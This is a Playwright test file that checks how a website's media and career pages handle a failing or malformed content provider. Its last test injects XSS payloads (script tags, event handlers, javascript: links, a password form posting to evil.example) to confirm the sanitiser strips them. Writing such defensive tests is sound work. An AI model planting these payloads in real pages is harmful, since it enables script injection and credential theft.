import type { Page } from '@playwright/test';

import { mediaDetailPath, mediaListPath, pages } from '#src/paths.ts';

import { base64, type FakeProvider, goodAnswer, startProvider } from '../support/fake-provider.ts';
import { test as base, expect } from '../support/journey.ts';
import { expectLive, openLive } from '../support/live-page.ts';
import { startSite } from '../support/site.ts';

/** Each test has a provider that misbehaves in its own way, and a site in front of it. */
const test = base.extend<{ provider: FakeProvider }>({
  provider: async ({ browserName: _browser }, use) => {
    await using provider = await startProvider();
    await use(provider);
  },
  baseURL: async ({ provider }, use) => {
    await using site = await startSite({ CONNECT_UPSTREAM: provider.base });
    await use(site.url);
  },
});

const lists = [pages.mediaRoom.path, mediaListPath('press'), pages.career.path];
const dataPaths = [...lists, mediaDetailPath('press-one')];

/** Header, one h1 and footer are there, and no program's word stands in the text. */
async function expectStanding(page: Page): Promise<void> {
  await expectLive(page);
  await expect(page.getByRole('heading', { level: 1 })).toHaveCount(1);
  await expect(page.getByRole('contentinfo')).toBeVisible();
  await expect(page.locator('main [aria-busy="true"]')).toHaveCount(0, { timeout: 20_000 });
  const text = (await page.getByRole('main').textContent()) ?? '';
  expect(text).not.toMatch(/undefined|\bnull\b|NaN|Invalid Date|\[object|\ufffd/);
}

test('a good provider is shown as it answers', async ({ page, provider }) => {
  provider.answer = goodAnswer();
  await openLive(page, mediaListPath('press'));
  await expect(page.getByRole('main').getByText('The press item one')).toBeVisible();
  await expect(page.getByRole('main')).toContainText('21st Jan 2026');
  await openLive(page, pages.career.path);
  await expect(page.getByRole('main').getByText('Firmware engineer').first()).toBeVisible();
  await expect(page.getByRole('main')).toContainText(/1st March/);
});

test('a provider that takes ten seconds is waited for, with the page standing', async ({
  page,
  provider,
}) => {
  test.slow();
  const good = goodAnswer();
  provider.answer = (path) => ({ ...good(path), delayMs: 10_000 });
  await page.goto(mediaListPath('press'));
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Press Releases', { timeout: 5_000 });
  await expect(page.getByRole('main').getByText('The press item one')).toBeVisible({ timeout: 25_000 });
});

test.describe('when the provider fails', () => {
  test.use({ expectedErrors: [/Failed to load resource: the server responded with a status of 50[0-4]/] });

  const failures = {
    'answers 500': { status: 500, body: '{"error":"secret stack trace"}' },
    'answers html': { type: 'text/html', body: '<html><title>Gateway</title></html>' },
    'answers half of its json': { body: '{"payload":[{"_id":"a"' },
    'answers nothing': { body: '' },
    'answers a number': { body: '42' },
  };
  for (const [what, answer] of Object.entries(failures))
    test(`and ${what}, the page says so and offers another try`, async ({ page, provider }) => {
      provider.answer = () => answer;
      for (const path of dataPaths) {
        await page.goto(path);
        await expect(page.getByRole('main').getByRole('button', { name: 'Try again' }).first()).toBeVisible({
          timeout: 20_000,
        });
        await expectStanding(page);
        await expect(page.getByRole('main')).not.toContainText('secret stack trace');
      }
      provider.answer = goodAnswer();
      await page.getByRole('main').getByRole('button', { name: 'Try again' }).first().click();
      await expect(page.getByRole('heading', { level: 1 })).toContainText('The press item one');
    });

  test('and cannot be reached, the page says so and offers another try', async ({ page, provider }) => {
    await provider[Symbol.asyncDispose]();
    for (const path of dataPaths) {
      await page.goto(path);
      await expect(page.getByRole('main').getByRole('button', { name: 'Try again' }).first()).toBeVisible({
        timeout: 20_000,
      });
      await expectStanding(page);
    }
  });
});

for (const [what, payload] of [
  ['null', 'null'],
  ['an empty list', '[]'],
] as const)
  test(`lists with ${what} in them say that nothing is there yet`, async ({ page, provider }) => {
    provider.answer = () => ({ body: `{"payload":${payload}}` });
    for (const path of lists) {
      await openLive(page, path);
      await expectStanding(page);
      await expect(page.getByRole('main')).toContainText(/\b(?:no|nothing|none|yet)\b/i);
    }
  });

test('items without most of their fields are still shown', async ({ page, provider }) => {
  provider.answer = goodAnswer(({ _id, name }) => ({ _id, name }));
  for (const path of dataPaths) {
    await openLive(page, path);
    await expectStanding(page);
  }
});

test('items of the wrong types break nothing', async ({ page, provider }) => {
  const strange = {
    title: { a: 1 },
    img_uri: 7,
    description: [],
    createdAt: 'yesterday',
    type: null,
    name: 5,
  };
  provider.answer = goodAnswer(({ _id }) => ({ ...strange, _id }));
  for (const path of dataPaths) {
    await openLive(page, path);
    await expectStanding(page);
  }
});

test.describe('with dead pictures', () => {
  test.use({ expectedErrors: [/Failed to load resource/], allowedOrigins: ['https://127.0.0.1:9'] });

  test('the text stands, and no broken picture is seen', async ({ page, provider }) => {
    provider.answer = goodAnswer((item) => ({ ...item, img_uri: 'https://127.0.0.1:9/gone.png' }));
    for (const path of [pages.mediaRoom.path, mediaListPath('press'), mediaDetailPath('press-one')]) {
      await openLive(page, path);
      await expectStanding(page);
      await expect(page.getByRole('main').getByText('The press item one').first()).toBeVisible();
      await expect(page.locator('main img[src*="gone.png"]')).toHaveCount(0);
    }
  });
});

test('a description that is no base64 leaves the title and the page', async ({ page, provider }) => {
  provider.answer = goodAnswer((item) => ({ ...item, description: '%%% not base64 é %%%' }));
  for (const path of [mediaListPath('press'), mediaDetailPath('press-one')]) {
    await openLive(page, path);
    await expectStanding(page);
    await expect(page.getByRole('main').getByText('The press item one').first()).toBeVisible();
  }
});

test('emoji and three-byte text arrive whole, and none is cut in half', async ({ page, provider }) => {
  const text = `${'日本語 ሀሁሂ 👩‍🔬 '.repeat(40)}`;
  provider.answer = goodAnswer((item) => ({
    ...item,
    title: `${'x'.repeat(46)}👩‍🔬 after the cut`,
    description: base64(`<p>${text}</p>`),
  }));
  for (const path of [pages.mediaRoom.path, mediaListPath('press'), mediaDetailPath('press-one')]) {
    await openLive(page, path);
    await expectStanding(page);
    const shown = (await page.getByRole('main').textContent()) ?? '';
    expect(shown.isWellFormed()).toBe(true);
    expect(shown).not.toMatch(/\u200d(?:\s|…|$)/);
  }
  await expect(page.getByRole('main')).toContainText('日本語 ሀሁሂ 👩‍🔬');
});

test.describe('with hostile html', () => {
  // The browser reports what it refuses already while the sanitiser's inert document is parsed.
  test.use({
    expectedErrors: [/violates the following Content Security Policy directive '(?:script|style)-src/],
  });

  test('nothing runs, and the harmless part is shown', async ({ page, provider }) => {
    const attacks = [
      '<script>window.hacked = 1</script>',
      '<img src=x onerror="window.hacked = 1">',
      '<svg onload="window.hacked = 1"></svg>',
      '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
      '<a href="javascript:window.hacked = 1">press me</a>',
      '<form action="https://evil.example"><input name="password"></form>',
      '<style>body { display: none }</style>',
      '<p style="position:fixed;inset:0">over all</p>',
    ];
    provider.answer = goodAnswer((item) => ({
      ...item,
      title: `The press item one ${attacks.join('')}`,
      description: base64(`<p>Harmless part.</p>${attacks.join('')}`),
    }));
    for (const path of [pages.mediaRoom.path, mediaListPath('press'), mediaDetailPath('press-one')]) {
      await openLive(page, path);
      await expectStanding(page);
      const main = page.getByRole('main');
      await expect(
        main.locator('script:not([type="application/ld+json"]), iframe, form[action*="evil"], style'),
      ).toHaveCount(0);
      await expect(main.locator('[onerror], [onload], [style], a[href^="javascript:"]')).toHaveCount(0);
      expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    }
    await expect(page.getByRole('main')).toContainText('Harmless part.');
  });
});
